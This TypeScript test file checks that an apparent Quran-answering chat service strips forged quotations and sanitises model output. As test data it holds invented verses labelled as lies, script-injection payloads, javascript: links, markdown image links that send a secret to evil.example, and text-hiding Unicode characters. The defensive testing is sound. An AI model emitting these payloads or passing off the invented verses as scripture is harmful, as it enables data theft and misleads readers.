import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { ChatAnswer } from '@isnad/contract/chat';
import type { Surah } from '@isnad/contract/quran';
import { type RunningService, startService } from '../../support/start.ts';
import { liesIn } from './adversarial-model.ts';
import { recompute } from './recompute.ts';
import { inPieces, refsIn, type ScriptedModel, startScriptedModel } from './scripted-model.ts';

const QUESTION = 'What does the Quran say about patience?';
const LIE = 'Whoever keeps silent for forty days is given two gardens of silver';
/** The second sentence of what is forged. */
const MORE = 'Nobody shall ever leave these gardens of silver again';

let isnad: RunningService;
let model: ScriptedModel;
before(async () => {
  model = await startScriptedModel(() => ({ pieces: [] }));
  isnad = await startService({ CHAT_BASE_URL: model.baseUrl, CHAT_MODEL_V1: 'm' });
});
after(async () => {
  await isnad.stop();
  await model.stop();
});

/** The answer to a model that says this, whole or streamed, in pieces of so many characters; REF is a passage it was given. */
async function answerTo(says: string, { stream = false, size = 4 } = {}): Promise<ChatAnswer> {
  model.script = (asked) => ({ pieces: inPieces(says.replaceAll('REF', refsIn(asked)[0] ?? ''), size) });
  const response = await isnad.request('/api/chat/create', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ message: QUESTION, stream, store: false }),
  });
  assert.equal(response.status, 200);
  const body = await response.text();
  const events = body.split('\n').filter((line) => line.startsWith('data: '));
  const answer = (stream ? JSON.parse(events.at(-1)?.slice(6) ?? '').chat : JSON.parse(body)) as ChatAnswer;
  if (stream) {
    const deltas = events.map((line) => (JSON.parse(line.slice(6)) as { delta?: string }).delta ?? '');
    assert.equal(deltas.join(''), answer.message);
  }
  await recompute(isnad, answer.message, answer.citations);
  return answer;
}

const WAYS = [{}, { stream: true, size: 1 }, { stream: true, size: 4 }, { stream: true, size: 1_000 }];

/** The text outside of the citations. */
function ownWords({ message, citations }: ChatAnswer): string {
  const points = Array.from(message);
  for (const { start, end } of citations) points.fill('', start, end);
  return points.join('');
}

const MARKS =
  '“ ” „ “ « » » « ‹ › ‟ ” 「 」 『 』 ｢ ｣ 〝 〞 ﹁ ﹂ ＂ ＂ ″ ″ ‶ ″ ‴ ‴ ʺ ʺ ❝ ❞ ⸂ ⸃ ⸌ ⸍ ⸠ ⸡ ‘ ’ ‚ ‘ ‛ ’ ＇ ＇'.split(
    ' ',
  );

test('text in quotation marks of any kind is checked', async () => {
  for (let at = 0; at < MARKS.length; at += 2) {
    const [open, close] = [MARKS[at], MARKS[at + 1]];
    for (const way of WAYS) {
      const answer = await answerTo(`Patience is praised [[REF]]. It is in the book ${open}${LIE}${close}. Good.`, way);
      assert.deepEqual(liesIn(ownWords(answer), [], [LIE]), [], `${open}${close}: ${answer.message}`);
      assert.ok((answer.usage.removed_quotations ?? 0) > 0, `${open}${close}`);
      assert.equal(answer.usage.provider, 'model');
    }
  }
});

test('a genuine verse in such marks is replaced by its text', async () => {
  const { verses } = await isnad.json<Surah>('/api/quran?id=94&verse=5');
  for (const [open, close] of ['「」', '＂＂', '″″', '‟”']) {
    const answer = await answerTo(`It is written ${open}${verses[0]?.text}${close}. So be patient [[REF]].`);
    assert.ok(
      answer.citations.some(({ ref }) => ref === '94:5'),
      answer.message,
    );
    assert.match(answer.message, /^It is written \[Quran 94:5\]\. So/);
  }
});

test('marks that quote nothing stay', async () => {
  const says = 'A rope of 6″ or 5′ is short, “patience” is long [[REF]]. It isn’t far.';
  for (const way of WAYS)
    assert.match(
      (await answerTo(says, way)).message,
      /^A rope of 6″ or 5′ is short, “patience” is long \[Quran .*\]\. It isn’t far\./,
    );
});

test('what is written behind a reference as if it were its text goes', async () => {
  for (const says of [
    `**Quran [[REF]]**\n${LIE}. ${MORE}.`,
    `**Quran [[REF]]**\n\n${LIE}. ${MORE}.`,
    `[[REF]]\n${LIE}. ${MORE}.\n`,
    `### Quran REF\n${LIE}.\n${MORE}.`,
    `- (Quran REF)\n  ${LIE}.`,
    `[[REF]]: ${LIE}. ${MORE}.`,
    `[[REF]] — ${LIE}.`,
    `1. **[[REF]]:** ${LIE}.`,
    `Surah Al-Baqarah [[REF]]\n${LIE}`,
  ]) {
    for (const way of WAYS) {
      const answer = await answerTo(`Patience is praised [[REF]].\n\n${says}\n\nIt is a light.`, way);
      assert.deepEqual(liesIn(ownWords(answer), [], [LIE, MORE]), [], `${says}\n---\n${answer.message}`);
      assert.match(answer.message, /It is a light\./, `${says}\n---\n${JSON.stringify(answer)}`);
    }
  }
});

test('its own words about a reference stay', async () => {
  for (const says of [
    'The verse [[REF]] calls to patience and prayer.',
    'Patience helps in hard times, as it is said there [[REF]].\nIt helps those who keep to it in all that they do.',
    '[[REF]] calls us to be patient, and gracious in it.',
  ]) {
    for (const way of WAYS) {
      const answer = await answerTo(says, way);
      const words = says.replaceAll('[[REF]]', '\n').split('\n');
      for (const part of words) assert.ok(answer.message.includes(part.trim()), `${part}: ${answer.message}`);
      assert.equal(answer.usage.removed_quotations, undefined);
    }
  }
});

test('HTML, images, links and characters that change how text is shown are taken out', async () => {
  const rows: readonly (readonly [says: string, message: RegExp])[] = [
    ['Good <script>alert(1)</script> words', /^Good alert\(1\) words /],
    ['Good <img src=x onerror="a. b"> words', /^Good words /],
    ['Good <IMG\nSRC=//evil.example/x> words', /^Good words /],
    ['Good <<b>script>x words', /^Good script>x words /],
    ['Good <<b>i</b>mg src=x> words', /^Good img src=x> words /],
    ['Good <!-- hidden --> words', /^Good words /],
    ['Good </p> words', /^Good words /],
    ['Good 2 < 3 words', /^Good 2 < 3 words /],
    ['Good ![a picture](http://evil.example/x.png?q=secret) words', /^Good \[a picture\] words /],
    ['Good ![](http://evil.example/x.png) words', /^Good \[\] words /],
    ['Good [name](javascript:alert(1)) words', /^Good \[name\]\)? words /],
    ['Good [name]<b>(http://evil.example) words', /^Good \[name\] words /],
    ['Good [name]\u200b(http://evil.example) words', /^Good \[name\] words /],
    ['Good ![name][1] words', /^Good \[name\]\s?\[1\] words /],
    ['Good \u202edrow\u202c \u2066words\u2069', /^Good drow words /],
    ['Good wo\u200brd\u00ads\ufeff \u0007and\u200e \u{e0041}more', /^Good words and more /],
    ['Good <script', /^Good script /],
  ];
  for (const [says, message] of rows) {
    for (const way of WAYS) {
      const answer = await answerTo(`${says} [[REF]].`, way);
      assert.match(answer.message.replaceAll(/ +/g, ' '), message, says);
      assert.doesNotMatch(ownWords(answer), /<[a-z/!?]|\]\(|[\u202a-\u202e\u2066-\u2069\u200b]/i, says);
    }
  }
  for (const way of WAYS) {
    const answer = await answerTo('Good ![name][1] words [[REF]].\n\n[1]: http://evil.example/x.png\n\nMore.', way);
    assert.ok(!answer.message.includes('evil.example'), answer.message);
  }
});

test('joiners of Bengali stay, and those that hide words do not', async () => {
  const answer = await answerTo('র\u200d্যাব ক্ষ\u200cমা pa\u200dtience [[REF]].');
  assert.match(answer.message, /^র\u200d্যাব ক্ষ\u200cমা patience /);
});

test('Arabic that stands in no book is taken out in Latin letters too', async () => {
  const lie = 'inna as-sabirina yadkhuluna al-jannata marratayni fi yawmi az-zihami';
  for (const says of [
    `Patience is praised [[REF]]. We read there ${lie}. Good.`,
    `Patience is praised [[REF]].\n\n${lie}\n\nGood.`,
  ]) {
    for (const way of WAYS) {
      const { message, usage } = await answerTo(says, way);
      assert.deepEqual(liesIn(message, [], [lie], 3), [], message);
      assert.equal(usage.removed_quotations, 1);
    }
  }
});

test('names, terms and blessings in Latin letters stay', async () => {
  for (const says of [
    'The Prophet (sallallahu alayhi wa sallam) and Abu Bakr as-Siddiq, radi Allahu anhu, were patient',
    'You can read about Umar ibn al-Khattab, Abd al-Rahman ibn Awf, salat, zakat and sabr',
    "Ayat al-Kursi and Surat al-Asr are well known, and Allah subhanahu wa ta'ala knows best",
  ]) {
    for (const way of WAYS) {
      const { message, usage } = await answerTo(`${says} [[REF]].`, way);
      assert.ok(message.startsWith(says), message);
      assert.equal(usage.removed_quotations, undefined);
    }
  }
});

test('words behind "He said," are checked in Bengali too', async () => {
  const lie = 'যে ব্যক্তি মঙ্গলবারে নয়টি খেজুর গাছ লাগায় সে রাতের আগেই ক্ষমা পায়';
  for (const way of WAYS) {
    const { message, usage } = await answerTo(`ধৈর্য একটি গুণ [[REF]]। আল্লাহ বলেন, ${lie}। ভালো।`, way);
    assert.deepEqual(liesIn(message, [], [lie]), [], message);
    assert.equal(usage.removed_quotations, 1);
  }
});
